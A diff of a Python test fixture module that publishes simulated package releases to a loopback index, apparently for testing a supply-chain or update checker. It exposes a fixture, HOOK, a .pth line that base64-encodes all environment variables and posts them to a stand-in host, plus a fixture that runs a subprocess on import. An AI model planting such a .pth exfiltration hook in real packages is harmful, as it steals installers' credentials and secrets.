@@ -6,7 +6,7 @@ from datetime import UTC, datetime, timedelta
 
 from tests.support.index import LoopbackIndex
 
-__all__ = ["NAMES", "ROUTINE", "fill", "publish_newer"]
+__all__ = ["HOOK", "NAMES", "ROUTINE", "fill", "publish_newer"]
 
 ROUTINE = tuple(f"plain{number:02d}" for number in range(1, 15))
 NAMES = (*ROUTINE, "hooked", "importer", "apikit", "capper", "capped", "young", "pulled")
@@ -37,7 +37,7 @@ import subprocess
 
 subprocess.run(["uname", "-a"], check=False)
 """
-_HOOK = (
+HOOK = (
     "import os, base64, urllib.request; "
     "urllib.request.urlopen('https://collect.invalid/x', base64.b64encode(repr(dict(os.environ)).encode()))\n"
 )
@@ -74,7 +74,7 @@ def publish_newer(index: LoopbackIndex) -> None:
     for name in ROUTINE:
         files = {f"{name}/__init__.py": newer, "CHANGELOG.md": _notes(name, "1.1")}
         index.add_release(name, "1.1", files=files, sdist=True)
-    index.add_release("hooked", "1.1", files={"hooked/__init__.py": newer, "hooked_init.pth": _HOOK})
+    index.add_release("hooked", "1.1", files={"hooked/__init__.py": newer, "hooked_init.pth": HOOK})
     index.add_release("importer", "1.1", files={"importer/__init__.py": newer + _STARTS_A_PROGRAM})
     index.add_release("apikit", "2.0", files={"apikit/__init__.py": _GONE})
     index.add_release("capper", "1.1", files={"capper/__init__.py": newer}, requires=["capped<2"])
